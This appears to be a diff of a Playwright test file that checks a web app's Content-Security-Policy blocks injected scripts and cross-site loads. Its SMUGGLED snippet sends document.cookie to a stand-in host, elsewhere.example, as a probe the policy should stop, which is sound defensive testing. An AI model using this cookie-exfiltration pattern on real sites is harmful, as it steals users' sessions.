@@ -1,15 +1,9 @@
-"""The app under its Content-Security-Policy: every page runs, and what is smuggled in does not."""
+"""The app under its Content-Security-Policy: what is smuggled in does not run, and no other site frames it."""
 
-import pytest
 from playwright.sync_api import expect
 
-from pages import PAGES
+from tests.browser.test_every_page import WATCH
 
-WATCH = """() => {
-  window.violations = [];
-  document.addEventListener('securitypolicyviolation', event => window.violations.push(
-    `${event.effectiveDirective} ${event.blockedURI}`));
-}"""
 SMUGGLED = """() => new Promise(done => {
   const script = document.createElement('script');
   script.textContent = 'window.smuggled = true';
@@ -19,19 +13,6 @@ SMUGGLED = """() => new Promise(done => {
   picture.onerror = () => done([window.smuggled ?? false, ...window.violations]);
   picture.src = 'https://elsewhere.example/?' + document.cookie;
 })"""
-
-
-LOOKS = [("ko", "light"), pytest.param("en", "dark", marks=pytest.mark.slow)]
-
-
-@pytest.mark.parametrize(("language", "theme"), LOOKS)
-def test_every_page_runs_under_the_policy(visit, language, theme):
-    person = visit(language, theme=theme)
-    person.page.evaluate(WATCH)
-    person.train()
-    for page in PAGES:
-        person.go_to(page.name)
-        assert person.page.evaluate("window.violations") == [], page.name
 
 
 def test_a_script_in_the_page_and_a_picture_from_elsewhere_are_stopped(visit):
